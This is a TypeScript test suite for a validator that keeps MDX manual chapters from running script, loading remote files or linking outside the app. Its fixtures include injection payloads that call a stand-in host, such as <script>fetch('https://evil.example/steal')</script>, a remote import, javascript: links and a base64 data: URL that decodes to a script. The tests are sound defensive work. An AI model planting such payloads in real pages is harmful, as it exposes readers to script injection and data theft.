/**
 * Content cannot ship code: every way an MDX chapter could run script, load a remote file or
 * open a non-manual URL stops `npm run validate` and the build with the file and line.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { buildError, fixtureWith, problemsOf, removeFixtures } from '../fixtures/content-fixture.ts';

afterEach(removeFixtures);

const INTRO = 'en/intro.mdx';
/** Line 17 of the fixture's intro chapter is "Field teams. See [ore picking](picking#what-children-do)." */
const LINK_LINE = 'Field teams. See [ore picking](picking#what-children-do).';
/** Puts a block after line 17: it starts on line 19. */
const addBlock = (block: string) => (t: string) => t.replace(`${LINK_LINE}\n`, `${LINK_LINE}\n\n${block}\n`);
const replaceLink = (next: string) => (t: string) => t.replace(LINK_LINE, next);

const CASES: Array<{ name: string; change: (t: string) => string; problem: RegExp }> = [
  {
    name: 'a <script> element',
    change: addBlock("<script>fetch('https://evil.example/steal')</script>"),
    problem: /^content\/en\/intro\.mdx:19 HTML element <script> is not allowed/,
  },
  {
    name: 'a flow expression',
    change: addBlock("{fetch('https://evil.example/steal')}"),
    problem: /^content\/en\/intro\.mdx:19 MDX expression \{…\} is not allowed: content cannot run code/,
  },
  {
    name: 'an inline expression',
    change: replaceLink("Field teams {fetch('https://evil.example/steal')} read this."),
    problem: /^content\/en\/intro\.mdx:17 MDX expression \{…\} is not allowed/,
  },
  {
    name: 'an expression as an attribute value',
    change: (t) => t.replace('title="Start early"', "title={fetch('https://evil.example/steal')}"),
    problem: /^content\/en\/intro\.mdx:19 <Callout title=\{…\}>: attribute values are plain strings in double quotes/,
  },
  {
    name: 'a spread expression attribute',
    change: (t) => t.replace('title="Start early"', '{...window}'),
    problem: /^content\/en\/intro\.mdx:19 <Callout \{…\}>: attribute values are plain strings in double quotes/,
  },
  {
    name: 'an attribute the component does not take',
    change: (t) => t.replace('title="Start early"', 'title="Start early" onClick="alert(1)"'),
    problem: /^content\/en\/intro\.mdx:19 <Callout onClick>: not an attribute of <Callout> \(it takes kind, title\)/,
  },
  {
    name: 'an attribute without a value',
    change: (t) => t.replace('title="Start early"', 'title'),
    problem: /^content\/en\/intro\.mdx:19 <Callout title>: give it a value in double quotes/,
  },
  {
    name: 'an import statement',
    change: (t) => t.replace('---\n\nThe programme', "---\n\nimport steal from 'https://evil.example/steal.js'\n\nThe programme"),
    problem: /^content\/en\/intro\.mdx:13 import\/export statement is not allowed/,
  },
  {
    name: 'an export statement',
    change: addBlock("export const stolen = fetch('https://evil.example/steal')"),
    problem: /^content\/en\/intro\.mdx:19 import\/export statement is not allowed/,
  },
  {
    name: 'a javascript: link',
    change: replaceLink('Field teams. See [ore picking](javascript:alert(1)).'),
    problem: /^content\/en\/intro\.mdx:17 link "javascript:alert\(1\)": a javascript: URL is not allowed/,
  },
  {
    name: 'a remote image',
    change: addBlock('![map](https://evil.example/map.png)'),
    problem: /^content\/en\/intro\.mdx:19 image "https:\/\/evil\.example\/map\.png": the manual works offline/,
  },
  {
    name: 'an unknown raw HTML element',
    change: addBlock('<iframe title="map" />'),
    problem: /^content\/en\/intro\.mdx:19 HTML element <iframe> is not allowed/,
  },
  {
    name: 'a data: URL',
    change: replaceLink('Field teams. See [the map](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).'),
    problem: /^content\/en\/intro\.mdx:17 link "data:text\/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==": a data: URL is not allowed/,
  },
  {
    name: 'a protocol-relative URL',
    change: addBlock('![map](//evil.example/map.png)'),
    problem: /^content\/en\/intro\.mdx:19 image "\/\/evil\.example\/map\.png": a protocol-relative URL leaves the manual/,
  },
  {
    name: 'a link through a reference definition',
    change: addBlock('See [the map][map].\n\n[map]: https://evil.example/map'),
    problem: /^content\/en\/intro\.mdx:21 external link "https:\/\/evil\.example\/map": the manual works offline/,
  },
  {
    name: 'a chapter over 300 KB',
    change: addBlock(Array.from({ length: 3200 }, () => 'Field teams read this chapter slowly and carefully, one section at a time, before the workshop begins.').join('\n\n')),
    problem: /^content\/en\/intro\.mdx:1 chapter is 3\d\d KB, over the 300 KB limit: split it into smaller chapters/,
  },
];

describe('content cannot ship code', () => {
  for (const c of CASES) {
    it(`refuses ${c.name}, in the validator and in the build, with file:line`, () => {
      const root = fixtureWith(INTRO, c.change);
      expect(problemsOf(root)).toContainEqual(expect.stringMatching(c.problem));
      const problem = c.problem.source.replace(/^\^/, '').replace(/:(\d+) /, ':$1(?::\\d+)? — ');
      expect(buildError(root)).toMatch(new RegExp(problem));
    });
  }

  it('accepts a link to a heading of the same chapter and an image bundled with the app', () => {
    const root = fixtureWith(INTRO, addBlock('Back to [the top](#who-reads-this). ![The app icon](icon.svg)'));
    mkdirSync(path.join(root, '../renderer/public'), { recursive: true });
    writeFileSync(path.join(root, '../renderer/public/icon.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
    expect(problemsOf(root)).toEqual([]);
  });

  it('refuses an image that is not among the bundled files, and an in-page anchor that does not exist', () => {
    const root = fixtureWith(INTRO, addBlock('Back to [the top](#who-writes-this). ![The map](map.png)'));
    expect(problemsOf(root)).toEqual(expect.arrayContaining([
      expect.stringMatching(/^content\/en\/intro\.mdx:19 broken anchor: "intro" \(en\) has no heading "#who-writes-this"/),
      expect.stringMatching(/^content\/en\/intro\.mdx:19 image "map\.png": no such file in renderer\/public\//),
    ]));
  });
});
